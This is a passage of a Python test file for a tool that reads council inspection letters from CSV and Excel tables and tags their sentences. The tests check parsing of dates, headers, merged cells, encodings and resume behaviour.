    book = load_workbook(source)
    for cells in ("A2:A4", "B2:B4", "A5:A8", "B5:B8", "C9:C10"):
        book["findings"].merge_cells(cells)
    book.save(source)
    letters = read_sentence_table(source, "book.xlsx", "text")
    by_name = {lt.document: list(lt.sentences["text"]) for lt in letters}
    counts = {name.split("::")[1]: len(texts) for name, texts in by_name.items()}
    assert counts == {"Leeds 2022": 3, "York 2021": 3, "Hartlepool 2023": 1}
    assert [lt.metadata["council"] for lt in letters] == ["Leeds", "York", "Hartlepool"]


def test_years_and_dates_as_spreadsheets_write_them_are_a_letters_year(tmp_path):
    """A year column with gaps, written by pandas, holds 2022.0: the letter had no year (under
    "unknown"), and 2022 beside 2022.0 made two letters of one council. A date cell (a year
    cell formatted as a date too) read as "2022-05-04 00:00:00" was no visit date either."""
    import datetime

    from ofsted_themes.tagging.letters import read_sentence_table

    source = workbook(tmp_path / "book.xlsx", {"findings": [
        ["council", "year", "visit_date", "text"],
        ["Leeds", "2022.0", None, "Caseloads are too high for workers."],
        ["Leeds", 2022, None, "Managers check the quality of plans."],
        ["York", datetime.datetime(2021, 1, 1), None, "Leaders know practice well."],
        ["Wigan", None, datetime.datetime(2023, 5, 4), "Children wait too long."]]})  # fmt: skip
    letters = read_sentence_table(source, "book.xlsx", "text")
    found = {lt.document.split("::")[1]: lt.metadata.get("visit_date") for lt in letters}
    assert found == {"Leeds 2022": "2022", "York 2021": "2021", "Wigan": "2023-05-04"}
    assert [len(lt) for lt in letters] == [2, 1, 1]


def test_a_tables_dates_as_letters_write_them_are_read_and_others_fail_it(tmp_path):
    """A table's visit date written as letters write it ("4 May 2022") gave no year, and one
    that is no date ("2022-13-45"), a year that is no year ("2022/23") or a year that another
    column's date contradicts was taken as it stood: each letter counted under a year, or
    under "unknown", without a word. The first is read; the others fail the table, named."""
    from ofsted_themes.tagging.letters import InputError, read_sentence_table

    source = tmp_path / "t.csv"
    source.write_text(
        "council,visit_date,text\nLeeds,4th May 2022,Caseloads are high.\n"
        "York,12 Sept. 2021,Plans drift.\nHull,04/05/2023,Plans drift.\n"
        "Bury,Wednesday 4 May 2022,Plans drift.\nWigan,2022-05-06 09:30:00,Plans drift.\n"
        "Bolton,2022-05-07T00:00:00,Plans drift.\n",
        encoding="utf-8",
    )
    letters = read_sentence_table(source, "t.csv", "text")
    dates = ["2022-05-04", "2021-09-12", "2023-05-04",  # day first, as England writes it
             "2022-05-04", "2022-05-06", "2022-05-07"]  # fmt: skip
    assert [lt.metadata["visit_date"] for lt in letters] == dates
    source.write_text(  # the dates as written, alone: their last day (it counted as unknown)
        "council,visit_dates,text\nLeeds,4 and 5 July 2023,Plans drift.\n", encoding="utf-8"
    )
    [letter] = read_sentence_table(source, "t.csv", "text")
    assert letter.metadata["visit_date"] == "2023-07-05"
    source.write_text(  # and a year they contradict fails the table, as in --meta
        "council,visit_dates,year,text\nLeeds,4 and 5 July 2023,2022,Plans drift.\n",
        encoding="utf-8",
    )
    with pytest.raises(InputError, match=re.escape("year and visit_dates disagree ('2022', '4 ")):
        read_sentence_table(source, "t.csv", "text")
    wrong = {
        "visit_date": ("2022-13-45", "visit_date '2022-13-45' not a date"),
        "year": ("2022/23", "year '2022/23' not a year"),
        "year,visit_date": (
            "2021,2022-05-04",
            "year and visit_date disagree ('2021', '2022-05-04')",
        ),
    }
    for header, (cell, reason) in wrong.items():
        source.write_text(
            f"council,{header},text\nLeeds,{cell},Caseloads are high.\nYork,,Plans drift.\n",
            encoding="utf-8",
        )
        with pytest.raises(InputError, match=re.escape(reason)):
            read_sentence_table(source, "t.csv", "text")


def test_a_csv_of_old_mac_line_ends_is_separated_by_its_header(tmp_path):
    """A CSV saved by Excel for Mac as "Macintosh CSV" ends its lines with a carriage return
    alone: its header was taken to be the whole file, a comma in a text cell chose the comma,
    and the table failed ("more fields than the header")."""
    from ofsted_themes.tagging.letters import read_sentence_table

    source = tmp_path / "mac.csv"
    source.write_bytes(b"council;text\rLeeds;Caseloads are high, and rising.\rYork;Plans drift.\r")
    letters = read_sentence_table(source, "mac.csv", "text")
    texts = {lt.metadata["council"]: list(lt.sentences["text"]) for lt in letters}
    assert texts == {"Leeds": ["Caseloads are high, and rising."], "York": ["Plans drift."]}


def test_a_formatted_empty_row_far_below_is_not_a_row_of_the_table(tmp_path):
    """Only a row holding a value counts toward the row limit: Excel writes a row it formats
    (a height, a style) though it is empty."""
    from openpyxl import Workbook

    from ofsted_themes.tagging.letters import read_sentence_table

    book = Workbook()
    book.active.append(["text"])
    book.active.append(["Caseloads are too high for social workers."])
    book.active.row_dimensions[MAX_TABLE_ROWS + 10].height = 20
    book.save(tmp_path / "formatted.xlsx")
    letters = read_sentence_table(tmp_path / "formatted.xlsx", "formatted.xlsx", "text")
    assert [len(lt) for lt in letters] == [1]


def test_headers_and_kinds_of_visit_as_people_type_them_are_read(tmp_path):
    """A "Text" header was refused while "Council" was taken; "Visit type" was carried as a
    column of its own; and "FV", "Monitoring", "ILACS" were each a kind of visit of their own,
    where --meta named "ILACS" an inspection."""
    from ofsted_themes.tagging.letters import read_sentence_table

    source = tmp_path / "t.csv"
    source.write_text(
        "Text,Council,Visit type\nCaseloads are high.,Leeds,FV\nPlans drift.,York,Monitoring\n"
        "Visits are late.,Hull,ILACS\nLeaders know it.,Bury,JTAI\nStaff stay.,Wigan,Focused visit\n"
        "Help is slow.,Bolton,Assurance visit\n",
        encoding="utf-8",
    )
    letters = read_sentence_table(source, "t.csv", "text")
    kinds = {lt.metadata["council"]: lt.metadata["visit_type"] for lt in letters}
    assert kinds == {
        "Leeds": "focused visit", "York": "monitoring visit", "Kingston upon Hull": "inspection",
        "Bury": "joint targeted area inspection", "Wigan": "focused visit",
        "Bolton": "Assurance visit",  # a kind of its own, as written
    }  # fmt: skip
    assert not [c for lt in letters for c in lt.sentences if c.startswith("input_")]
    source.write_text("Text,text2,TEXT\nA.,B.,C.\n", encoding="utf-8")  # which? not guessed
    with pytest.raises(ValueError, match="no column 'text'"):
        read_sentence_table(source, "t.csv", "text")


def test_a_sentence_merged_over_rows_under_a_spaced_text_header_stays_one(tmp_path):
    """A text column headed "text " (read as the text column) was filled down like another."""
    from openpyxl import load_workbook

    from ofsted_themes.tagging.letters import read_sentence_table

    source = workbook(tmp_path / "book.xlsx", {"s": [
        ["council", "text "], ["Leeds", "One long sentence over two rows."], [None, None],
        ["York", "Another sentence."]]})  # fmt: skip
    book = load_workbook(source)
    book["s"].merge_cells("B2:B3")
    book["s"].merge_cells("A2:A3")
    book.save(source)
    letters = read_sentence_table(source, "book.xlsx", "text")
    assert [len(lt) for lt in letters] == [1, 1]


@pytest.mark.parametrize(
    ("cell", "output"), [("Para one.\r\n\r\nPara two.", "tags.csv"), ("Form\x0cfeed.", "tags.xlsx")]
)
def test_resume_warns_of_no_change_in_what_an_output_cannot_keep(
    tagger_file, tmp_path, cell, output
):
    """A table's letter read back from the outputs (CRLF as LF in a CSV, controls dropped from
    a workbook) was taken for a letter changed since it was tagged."""
    source = tmp_path / "t.csv"
    source.write_bytes(f'council,year,text\nYork,2021,"{cell}"\nHull,2022,Plans drift.\n'.encode())
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / output
    assert tag(tagger_file, out, source).returncode == 0
    done = tag(tagger_file, out, source, "--resume")
    assert done.returncode == 0, done.stderr
    assert "(2 already tagged, skipped)" in done.stdout and "changed since" not in done.stderr


def test_a_tables_letters_are_its_own_whatever_its_name_holds():
    from ofsted_themes.tagging.batch import absent_letters

    done = {"x::y.csv::Leeds 2022", "x::y.csv::York 2021", "x::y.csv", "gone.txt"}
    held = {"x::y.csv::Leeds 2022", "x::y.csv::York 2021"}
    assert absent_letters(done, [Path("x::y.csv")], ["x::y.csv"], held) == ["gone.txt", "x::y.csv"]


def test_every_sheet_takes_a_text_column_headed_with_spaces(tmp_path):
    """A workbook of two sheets, one headed "text ", failed: "sheet has no column 'text'"."""
    from ofsted_themes.tagging.letters import read_sentence_table

    source = workbook(tmp_path / "book.xlsx", {
        "Leeds": [["text"], ["Caseloads are too high."]],
        "York": [["text "], ["Plans drift."]]})  # fmt: skip
    letters = read_sentence_table(source, "book.xlsx", "text")
    assert [(lt.document, len(lt)) for lt in letters] == [
        ("book.xlsx::Leeds", 1), ("book.xlsx::York", 1)]  # fmt: skip


def test_a_tables_letter_of_blank_rows_keeps_the_council_and_year_they_give(tmp_path):
    """Counted as a letter of no sentences, it was counted under no council ("unknown")."""
    from ofsted_themes.tagging.letters import read_sentence_table

    source = tmp_path / "docs.csv"
    source.write_text(
        "document,council,year,text\nfull.pdf,Leeds,2022,Caseloads are too high.\n"
        "empty.pdf,Wakefield City Council,2021,\nempty.pdf,Wakefield,2021, \n"
    )
    letters = {lt.document: lt for lt in read_sentence_table(source, "docs.csv", "text")}
    empty = letters["docs.csv::empty.pdf"]
    assert len(empty) == 0
    assert (empty.metadata["council"], empty.metadata["visit_date"]) == ("Wakefield", "2021")


def test_merged_ranges_are_found_under_any_prefix_and_target(tmp_path):
    """A workbook part may name its elements with a namespace prefix and its sheets by an
    absolute target; only ranges spanning rows fill anything."""
    import zipfile

    from ofsted_themes.tagging.workbooks import merged_down, sheet_xml

    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    path = tmp_path / "book.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", (
            f'<x:workbook xmlns:x="{main}" xmlns:r="{rels}"><x:sheets>'
            '<x:sheet name="One" sheetId="1" r:id="rId7"/>'
            '<x:sheet name="Two" sheetId="2" r:id="rId8"/></x:sheets></x:workbook>'))  # fmt: skip
        archive.writestr("xl/_rels/workbook.xml.rels", (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId7" Type="worksheet" Target="/xl/worksheets/data.xml"/>'
            '<Relationship Id="rId8" Type="worksheet" Target="worksheets/../sheets/two.xml"/>'
            "</Relationships>"))  # fmt: skip
        archive.writestr("xl/worksheets/data.xml", (
            f'<x:worksheet xmlns:x="{main}"><x:sheetData/><x:mergeCells count="2">'
            '<x:mergeCell ref="B1:D1"/><x:mergeCell ref="C2:D5"/>'
            "</x:mergeCells></x:worksheet>"))  # fmt: skip
        archive.writestr("xl/sheets/two.xml", (
            f'<worksheet xmlns="{main}"><sheetData/><mergeCells>'
            '<mergeCell ref="AA10:AA12"/></mergeCells></worksheet>'))  # fmt: skip
    with zipfile.ZipFile(path) as archive:
        assert merged_down(sheet_xml(archive)) == {"One": [(3, 2, 5)], "Two": [(27, 10, 12)]}


def test_a_sheet_without_the_text_column_fails_its_workbook_by_name(tagger_file, tmp_path):
    source = workbook(tmp_path / "book.xlsx", {
        "2023": [["text"], ["Caseloads are too high for workers."]],
        "2024": [["finding"], ["Children go missing from care."]]})  # fmt: skip
    (tmp_path / "out").mkdir()
    done = tag(tagger_file, tmp_path / "out" / "tags.csv", source, normal_letter(tmp_path / "in"))
    assert done.returncode == 1  # before: exit 0, the 2024 sheet's sentences gone
    (line,) = failure_lines(done, "book.xlsx")
    assert "sheet '2024' has no column 'text' (found: finding)" in line


@pytest.mark.parametrize("output", ["tags.csv", "tags.xlsx", "tags.parquet"])
def test_a_header_of_numbers_or_dates_is_carried_as_text(tagger_file, tmp_path, output):
    import datetime

    source = workbook(tmp_path / "years.xlsx", {"s": [
        ["text", 2024, datetime.datetime(2024, 1, 1)],
        ["Caseloads are too high for social workers.", "a", "b"]]})  # fmt: skip
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / output
    done = tag(tagger_file, out, source)
    assert done.returncode == 0, done.stderr
    rows = read_table(out)
    assert rows["2024"].tolist() == ["a"]  # before: empty in XLSX, a traceback without text
    assert rows["2024-01-01 00:00:00"].tolist() == ["b"]


def test_a_formula_in_a_header_is_text_in_every_table(tagger_file, tmp_path):
    source = tmp_path / "formula.csv"
    source.write_text(f'text,"{FORMULA.replace(chr(34), chr(34) * 2)}"\nCaseloads are high.,x\n')
    (tmp_path / "out").mkdir()
    for output in ("csv/tags.csv", "xlsx/tags.xlsx"):  # apart: they would share letters.csv
        out = tmp_path / "out" / output
        assert tag(tagger_file, out, source).returncode == 0
    header = (tmp_path / "out" / "csv" / "tags.csv").read_text().splitlines()[0]
    assert f"'{FORMULA}"[:12] in header.replace('""', '"')
    with zipfile.ZipFile(tmp_path / "out" / "xlsx" / "tags.xlsx") as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


def test_a_tag_table_tagged_again_twice_keeps_every_column_apart(tagger_file, tmp_path):
    first, second, third = (tmp_path / n / "tags.parquet" for n in ("a", "b", "c"))
    for folder in (first, second, third):
        folder.parent.mkdir()
    source = normal_letter(tmp_path / "in")
    assert tag(tagger_file, first.with_suffix(".csv"), source).returncode == 0
    assert tag(tagger_file, second.with_suffix(".csv"), first.with_suffix(".csv")).returncode == 0
    done = tag(tagger_file, third, second.with_suffix(".csv"))
    assert done.returncode == 0, done.stderr  # before: a traceback (two input_sentence_no)
    rows = read_table(third)
    assert {"input_sentence_no", "input_input_sentence_no"} <= set(rows.columns)


def test_a_page_that_is_not_a_page_number_is_carried_not_wrapped(tagger_file, tmp_path):
    source = tmp_path / "pages.csv"
    source.write_text("text,page\nCaseloads are high.,1\nManagers are absent.,1e30\n"
                      "Children go missing.,-5\n")  # fmt: skip
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, source).returncode == 0
    rows = read_table(out)
    assert set(rows["page"]) == {1} and rows["input_page"].tolist() == ["1", "1e30", "-5"]


def test_blank_rows_of_a_table_are_not_sentences(tagger_file, tmp_path):
    source = tmp_path / "blanks.csv"  # the blank row a spreadsheet exports last has no page
    source.write_text('text,page\nCaseloads are too high.,1\n"",\n"   ",\nStaff leave.,2\n,\n')
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, source).returncode == 0
    assert pd.read_csv(out.with_name("letters.csv"))["sentences"].tolist() == [2]
    assert pd.read_csv(out)["page"].tolist() == [1, 2]  # pages, not carried as input_page


def test_a_windows_1252_table_is_read_as_a_text_letter_is(tagger_file, tmp_path):
    source = tmp_path / "cp1252.csv"
    source.write_bytes("text\nThe council’s caseloads are too high.\n".encode("cp1252"))
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "tags.csv"
    done = tag(tagger_file, out, source)
    assert done.returncode == 0, done.stderr
    assert pd.read_csv(out)["text"].tolist() == ["The council’s caseloads are too high."]


def test_resume_appends_a_tables_new_letters_beside_its_tagged_ones(tagger_file, tmp_path):
    source = tmp_path / "docs.csv"
    source.write_text("document,text\nA,Caseloads are too high.\nB,Managers do not oversee.\n")
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, source).returncode == 0
    with source.open("a") as table:
        table.write("C,Exploitation risks are identified quickly.\n")
    done = tag(tagger_file, out, source, "--resume")
    assert done.returncode == 0, done.stderr
    assert documents(out) == {f"{source}::{d}" for d in "ABC"}  # before: C was never tagged
    assert "(2 already tagged, skipped)" in done.stdout  # letters, not files
    assert len(pd.read_csv(out)) == 3


@pytest.mark.parametrize(
    "table",
    [
        "sep=;\ncouncil;text\nLeeds;Caseloads are too high, and rising.\n",  # as Excel saves
        "sep=;\rcouncil;text\rLeeds;Caseloads are too high, and rising.\r",  # Excel for Mac's
        'council,text \nLeeds,"Caseloads are too high, and rising."\n',  # a header typed so
    ],
)
def test_a_table_as_a_spreadsheet_or_a_person_writes_it_is_read(table, tmp_path):
    """Excel's "sep=;" first line failed the table ("a comma in an unquoted text cell?"), and
    a text column headed "text " was not found, though "Council " was."""
    from ofsted_themes.tagging.letters import read_sentence_table

    source = tmp_path / "t.csv"
    source.write_text(table, encoding="utf-8")
    (letter,) = read_sentence_table(source, "t.csv", "text")
    assert list(letter.sentences["text"]) == ["Caseloads are too high, and rising."]
    assert letter.metadata["council"] == "Leeds"


def test_resume_names_a_tables_letters_changed_or_gone_since_they_were_tagged(
    tagger_file, tmp_path
):
    """A row added to a letter tagged before was dropped, and a letter renamed by a corrected
    council ("Bradfrod") was kept beside its new name, counted twice: both without a word."""
    source = tmp_path / "findings.csv"
    source.write_text(
        "council,year,text\nLeeds,2022,Caseloads are too high.\n"
        "Bradfrod,2023,Staff turnover remains high.\nYork,2021,Plans drift.\n"
    )
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, source).returncode == 0
    source.write_text(
        "council,year,text\nLeeds,2022,Caseloads are too high.\nLeeds,2022,Managers check plans.\n"
        "Bradford,2023,Staff turnover remains high.\nYork,2021,Plans drift.\n"
    )
    done = tag(tagger_file, out, source, "--resume")
    assert done.returncode == 0, done.stderr
    (changed,) = [line for line in done.stderr.splitlines() if "changed since" in line]
    assert changed.startswith("warning: 1 letter") and changed.endswith(f"{source}::Leeds 2022")
    assert "note: 1 letter of the earlier outputs not among this run's inputs" in done.stdout
    report = out.with_name("report.html").read_text(encoding="utf-8")
    assert f"{source}::Bradfrod 2023" in report and f"{source}::Leeds 2022" in report


@pytest.mark.parametrize("limit", ["inf", "-1", "nan", "1e12"])
def test_a_time_limit_that_cannot_be_set_is_a_usage_error(tagger_file, tmp_path, limit):
    done = tag(tagger_file, tmp_path / "tags.csv", normal_letter(tmp_path / "in"),
               time_limit=limit)  # fmt: skip
    assert done.returncode == 2 and "--time-limit" in done.stderr
    assert "Traceback" not in done.stderr and not (tmp_path / "tags.csv").exists()


def test_a_full_disk_is_an_error_line_and_leaves_nothing_behind(tagger_file, tmp_path, monkeypatch):
    from ofsted_themes.tagging import sinks

    def full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(sinks.TableSink, "flush", full)
    done = tag(tagger_file, tmp_path / "out" / "tags.csv", normal_letter(tmp_path / "in"))
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "the command stopped: No space left on device; no output was changed" in done.stderr
    assert not leftovers(tmp_path)


def test_a_file_that_kills_its_worker_fails_alone_and_is_never_read_here(
    tagger_file, tmp_path, monkeypatch
):
    """A worker that dies (out of memory, a crash in a C library) takes no other file with it:
    the files not done are read again one by one, each by a worker of its own, and the one
    that kills its worker is the one that failed, never read in the batch's own process."""
    from ofsted_themes.tagging import letters

    batch_process, read = os.getpid(), letters.read_input

    def crash_on_some(path, *args):  # workers are forked: they have this, as the batch has
        if "crash" in path.name:
            if os.getpid() == batch_process:
                raise AssertionError("read in the batch's own process")
            os._exit(1)
        return read(path, *args)

    monkeypatch.setattr(letters, "read_input", crash_on_some)
    folder = tmp_path / "in"
    # more files than the workers can hold when one dies: the rest go on in a new pool
    names = ["a", "b-crash", *(f"c{i:03d}" for i in range(110))]
    for name in names:
        normal_letter(folder).rename(folder / f"{name}.txt")
    done = tag(tagger_file, tmp_path / "out" / "tags.csv", folder, jobs="2")
    assert done.returncode == 1, done.stderr
    assert [Path(line.split()[0]).name for line in failure_lines(done, "died")] == ["b-crash.txt"]
    assert len(documents(tmp_path / "out" / "tags.csv")) == len(names) - 1


@pytest.mark.parametrize("name", ["book.csv", "a::b.csv"])
def test_resume_appends_the_letters_a_table_has_gained_and_repeats_none(
    tagger_file, tmp_path, name
):
    """A table of one letter (no document column) that gains some is read again; a table whose
    own name holds "::" keeps its tagged letters apart from its new ones."""
    source = tmp_path / name
    source.write_text("text\nCaseloads are too high for social workers.\n")
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, source).returncode == 0
    source.write_text("document,text\nA,Caseloads are too high.\nB,Children go missing.\n")
    assert tag(tagger_file, out, source, "--resume").returncode == 0
    assert documents(out) == {str(source), f"{source}::A", f"{source}::B"}
    again = tag(tagger_file, out, source, "--resume")  # nothing new: nothing tagged twice
    assert again.returncode == 0 and "(2 already tagged, skipped)" in again.stdout  # A, B
    assert len(pd.read_csv(out)) == 3
